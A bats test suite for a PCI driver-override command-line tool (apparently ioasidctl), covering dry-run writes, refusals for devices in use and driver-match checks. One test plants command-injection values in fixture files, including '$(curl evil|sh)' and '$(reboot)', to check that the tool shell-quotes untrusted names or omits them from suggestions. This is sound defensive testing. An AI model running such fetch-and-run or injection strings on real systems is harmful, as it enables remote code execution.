#!/usr/bin/env bats
# SPDX-License-Identifier: GPL-2.0-or-later
# driver list; driver set and reset as far as nothing is written

setup_file()
{
	load ../lib.bash
	unpack intel-pasid none
}

setup()
{
	load ../lib.bash
}

@test "the devices with an override are listed" {
	on intel-pasid driver list -o device,driver,driver_override,group
	succeeds
	equal "$output" "$(cat <<-'END'
		DEVICE       DRIVER      DRIVER-OVERRIDE GROUP
		0000:00:10.0 vfio-pci    vfio-pci            6
		0000:00:11.0 uio_pci_sva uio_pci_sva         7
	END
	)"
	on none driver list -j
	succeeds
	equal "$output" '[]'
}

@test "a dry run prints each write in order" {
	on intel-pasid driver set --dry-run eth1 vfio-pci
	succeeds
	equal "$output" "$(cat <<-'END'
		write /sys/devices/pci0000:00/0000:00:03.0/driver_override vfio-pci
		write /sys/bus/pci/drivers/e1000e/unbind 0000:00:03.0
		write /sys/bus/pci/drivers_probe 0000:00:03.0
	END
	)"
	on intel-pasid driver set --dry-run 00:05.0 vfio-pci
	succeeds
	equal "$output" "$(cat <<-'END'
		write /sys/devices/pci0000:00/0000:00:05.0/driver_override vfio-pci
		write /sys/bus/pci/drivers_probe 0000:00:05.0
	END
	)"
	on intel-pasid driver set --dry-run vfio0 vfio-pci
	succeeds
	[[ -z $output ]]
}

@test "a capture cannot be changed" {
	local before

	before=$(find "$BATS_FILE_TMPDIR/intel-pasid" -type f -exec sha256sum {} + | sha256sum)
	on intel-pasid driver set 00:05.0 vfio-pci
	fails 2 "00:05.0: a capture cannot be changed"
	on intel-pasid driver reset 00:05.0
	fails 2 "00:05.0: a capture cannot be changed"
	equal "$(find "$BATS_FILE_TMPDIR/intel-pasid" -type f -exec sha256sum {} + | sha256sum)" "$before"
}

@test "a device in use is refused, with what uses it and how to free it" {
	on intel-pasid driver set --dry-run nvme0 vfio-pci
	fails 3 "nvme0: refused: /dev/nvme0n1 is mounted on /mnt/data" "to free it: umount /mnt/data"
	on intel-pasid driver set --dry-run 00:10.0 uio_pci_sva
	# The process may be the holder of a context, or only have such a name, so ending it is not
	# suggested.
	[[ $status == 3 && -z $output ]]
	says_only "ioasidctl: 00:10.0: refused: process 98 (ioasid:vm) has /dev/vfio/devices/vfio0 open"
	on intel-pasid driver reset --dry-run 00:11.0
	fails 3 "00:11.0: refused: process 107 (bash) has /dev/uio0 open" \
		"to free it: systemctl stop accelerator.service"
	on intel-pasid driver set --dry-run 00:08.0 vfio-pci
	fails 3 "00:08.0: refused: it is a pci bridge"
}

@test "the holder of a context is known by its socket, and named by its full name" {
	local tree

	tree=$(own intel-pasid)
	mkdir -p "$tree/ioasidctl"
	cat >"$tree/ioasidctl/contexts.json" <<-'END'
		{ "uid": 0, "roots": [], "context": [
		  { "name": "vm", "socket": "/run/ioasidctl/vm.sock", "uid": 0, "status": "live",
		    "describe": { "name": "vm", "pid": 97, "uid": 0, "device": [], "ioas": [], "hwpt": [] } },
		  { "name": "vm-of-production", "socket": "/run/ioasidctl/vm-of-production.sock", "uid": 0,
		    "status": "live",
		    "describe": { "name": "x", "pid": 98, "uid": 0, "device": [], "ioas": [], "hwpt": [] } } ] }
	END
	on intel-pasid driver set --dry-run 00:10.0 uio_pci_sva
	fails 3 "00:10.0: refused: process 98 (ioasid:vm) has /dev/vfio/devices/vfio0 open" \
		"to free it: ioasidctl -c vm-of-production device remove 0000:00:10.0"
}

# shellcheck disable=SC2016	# must not be expanded
@test "untrusted names are quoted for a shell, or not suggested" {
	local tree

	tree=$(own intel-pasid)
	sed -i 's|/mnt/data|/mnt/$(reboot)\\040it'"'"'s|' "$tree/proc/self/mountinfo"
	on intel-pasid driver set --dry-run nvme0 vfio-pci
	[[ $status == 3 && -z $output ]]
	says_only "$(cat <<-'END'
		ioasidctl: nvme0: refused: /dev/nvme0n1 is mounted on /mnt/$(reboot) it's
		hint: to free it: umount '/mnt/$(reboot) it'\''s'
	END
	)"
	# Not a valid service name, and the user's own service, not the system's.
	echo '0::/$(curl evil|sh).service' >"$tree/proc/107/cgroup"
	on intel-pasid driver reset --dry-run 00:11.0
	fails 3 "00:11.0: refused: process 107 (bash) has /dev/uio0 open" "to free it: kill 107"
	echo '0::/user.slice/user-1000.slice/user@1000.service/sshd.service' >"$tree/proc/107/cgroup"
	on intel-pasid driver reset --dry-run 00:11.0
	fails 3 "00:11.0: refused: process 107 (bash) has /dev/uio0 open" "to free it: kill 107"
	echo 'ioasid:;reboot' >"$tree/proc/107/comm"
	on intel-pasid driver reset --dry-run 00:11.0
	[[ $status == 3 && -z $output ]]
	says_only "ioasidctl: 00:11.0: refused: process 107 (ioasid:;reboot) has /dev/uio0 open"
}

@test "several devices: all of them or none, and each that blocks is named" {
	on intel-pasid driver set --dry-run eth1 00:05.0 0000:00:05.0 vfio-pci
	succeeds
	equal "$output" "$(cat <<-'END'
		write /sys/devices/pci0000:00/0000:00:03.0/driver_override vfio-pci
		write /sys/bus/pci/drivers/e1000e/unbind 0000:00:03.0
		write /sys/bus/pci/drivers_probe 0000:00:03.0
		write /sys/devices/pci0000:00/0000:00:05.0/driver_override vfio-pci
		write /sys/bus/pci/drivers_probe 0000:00:05.0
	END
	)"
	on intel-pasid driver set --dry-run 00:05.0 nvme0 00:08.0 vfio-pci
	[[ $status == 3 && -z $output ]]
	says_only "$(cat <<-'END'
		ioasidctl: nvme0: refused: /dev/nvme0n1 is mounted on /mnt/data
		hint: to free it: umount /mnt/data
		ioasidctl: 00:08.0: refused: it is a pci bridge
	END
	)"
	on intel-pasid driver reset --dry-run 00:05.0 nvme0n1 eth1
	succeeds
	equal "$output" 'write /sys/bus/pci/drivers_probe 0000:00:05.0'
}

# From Debian's linux-modules-7.3.4+deb13-amd64, made by depmod.
aliases()
{
	local modules=$1/lib/modules/7.3.4+deb13-amd64

	mkdir -p "$modules" "$1/proc/sys/kernel"
	echo 7.3.4+deb13-amd64 >"$1/proc/sys/kernel/osrelease"
	cat >"$modules/modules.alias" <<-'END'
		# Aliases extracted from modules themselves.
		alias pci:v*d*sv*sd*bc01sc08i02* nvme
		alias pci:v00008086d000010D3sv*sd*bc*sc*i* e1000e
		alias pci:v00008086d000010D6sv*sd*bc*sc*i* igb
		alias vfio_pci:v*d*sv*sd*bc*sc*i* vfio_pci
	END
}

@test "a driver that does not support the device is refused, as it could crash the machine" {
	aliases "$(own intel-pasid)"
	on intel-pasid driver set --dry-run 00:05.0 e1000e
	[[ $status == 3 && -z $output ]]
	says_only "$(cat <<-'END'
		ioasidctl: 00:05.0: refused: e1000e is not made for this device, and could bring the machine down
		hint: --force=driver-match overrides this check
	END
	)"
	on intel-pasid driver set --dry-run eth1 00:05.0 nvme
	[[ $status == 3 && -z $output ]]
	says_only "$(cat <<-'END'
		ioasidctl: eth1: refused: nvme is not made for this device, and could bring the machine down
		hint: drivers made for it: e1000e
		hint: --force=driver-match overrides this check
		ioasidctl: 00:05.0: refused: nvme is not made for this device, and could bring the machine down
		hint: --force=driver-match overrides this check
	END
	)"
	on intel-pasid driver set --dry-run 00:05.0 e1000e --force=driver-match
	succeeds
	[[ $output == *"/driver_override e1000e"* ]]
	on intel-pasid driver set --dry-run 00:05.0 pcieport
	[[ $status == 3 && -z $output ]]
	says "it could not be determined whether pcieport is made for this device: this kernel has no modules.alias"
	# A device in use is refused for any driver.
	on intel-pasid driver set --dry-run --force=driver-match nvme0 e1000e
	fails 3 "nvme0: refused: /dev/nvme0n1 is mounted on /mnt/data" "to free it: umount /mnt/data"
	on intel-pasid driver set --dry-run --force=all 00:05.0 e1000e
	[[ $status == 2 ]]
	says "--force takes only driver-match"
	on intel-pasid driver set --dry-run --force 00:05.0 e1000e
	[[ $status == 2 ]]
}

@test "nothing blocks resetting a device to its own driver" {
	local tree nic

	tree=$(own intel-pasid)
	nic=$tree/sys/devices/pci0000:00/0000:00:03.0
	aliases "$tree"
	ln -sfn ../../../bus/pci/drivers/vfio-pci "$nic/driver"
	sed -i 's/DRIVER=.*/DRIVER=vfio-pci/' "$nic/uevent"
	echo vfio-pci >"$nic/driver_override"
	on intel-pasid driver set --dry-run 00:03.0 e1000e
	succeeds
	[[ $output == *"/driver_override e1000e"* ]]
	on intel-pasid driver set --dry-run 00:03.0 nvme
	[[ $status == 3 && -z $output ]]
	says "drivers made for it: e1000e" "to let the kernel choose its driver: ioasidctl driver reset 0000:00:03.0"
	# Without these files the kernel is asked to find the driver.
	rm -r "${tree:?}/lib"
	on intel-pasid driver set --dry-run 00:03.0 e1000e
	[[ $status == 3 && -z $output ]]
	says "it could not be determined" "ioasidctl driver reset 0000:00:03.0"
	on intel-pasid driver reset --dry-run 00:03.0
	succeeds
	[[ $output == *'/driver_override \n'* ]]
}

@test "the drivers that a device may be bound to, and several devices" {
	aliases "$(own intel-pasid)"
	on intel-pasid driver set --list-drivers eth1
	succeeds
	equal "$output" "$(printf '%s\n' e1000e uio_pci_generic uio_pci_sva vfio-pci)"
	on intel-pasid driver set --list-drivers 00:05.0
	succeeds
	equal "$output" "$(printf '%s\n' uio_pci_generic uio_pci_sva vfio-pci)"
	on intel-pasid driver set --list-drivers 00:05.0 eth1
	succeeds
	equal "$output" "$(printf '%s\n' uio_pci_generic uio_pci_sva vfio-pci)"
	on intel-pasid driver set --list-drivers eth1 eth9
	[[ $status == 6 && -z $output ]]
}

@test "where the files about drivers cannot be read, a note says that drivers may be missing" {
	local modules tree

	tree=$(own intel-pasid)
	aliases "$tree"
	for modules in "$tree"/lib/modules/*/modules.*; do
		ln -sf errno:13 "$modules"
	done
	on intel-pasid driver set --list-drivers 00:05.0
	ended 7
	equal "$output" "$(printf '%s\n' uio_pci_generic uio_pci_sva vfio-pci)"
	says_only "ioasidctl: note: 00:05.0: the drivers made for it could not be determined: Permission denied"
	rm -r "${tree:?}/lib"
	on intel-pasid driver set --list-drivers 00:05.0
	ended 7
	says_only "ioasidctl: note: 00:05.0: the drivers made for it could not be determined: this kernel has no modules.alias or modules.builtin.modinfo that says so"
}

@test "a driver or device that does not exist is status 6" {
	on intel-pasid driver set --dry-run 00:05.0 nodriver
	fails 6 "nodriver: no such PCI driver in this kernel" "to load it, if it is a module: modprobe nodriver"
	on intel-pasid driver set --dry-run 00:05.0 'no;driver'
	fails 6 "no;driver: no such PCI driver in this kernel" \
		"to load it, if it is a module: modprobe 'no;driver'"
	on intel-pasid driver set --dry-run 00:05.0 vfio_pci
	fails 6 "vfio_pci: no such PCI driver in this kernel" "did you mean 'vfio-pci'?"
	on intel-pasid driver set --dry-run 00:06.0 vfio-pci
	fails 6 "00:06.0: no such device" "'ioasidctl device list' shows all devices"
	on intel-pasid driver reset --dry-run eth9
	[[ $status == 6 && -z $output ]]
	says "eth9: no such device" "'ioasidctl driver list' shows the devices that were given another"
	on intel-pasid driver set --dry-run 00:05.0 00:06.0 vfio-pci
	fails 6 "00:06.0: no such device" "'ioasidctl device list' shows all devices"
}

@test "a name that is not valid for a driver is wrong usage" {
	local name

	for name in 'a b' .. . a/b $'a\nb'; do
		on intel-pasid driver set --dry-run 00:05.0 "$name"
		[[ $status == 2 && -z $output ]]
		says "is not a valid driver name"
	done
}

@test "without an IOMMU group vfio-pci is useless" {
	on none driver set --dry-run 00:05.0 vfio-pci
	[[ $status == 5 && -z $output ]]
	says "00:05.0: the device is in no IOMMU group"
}
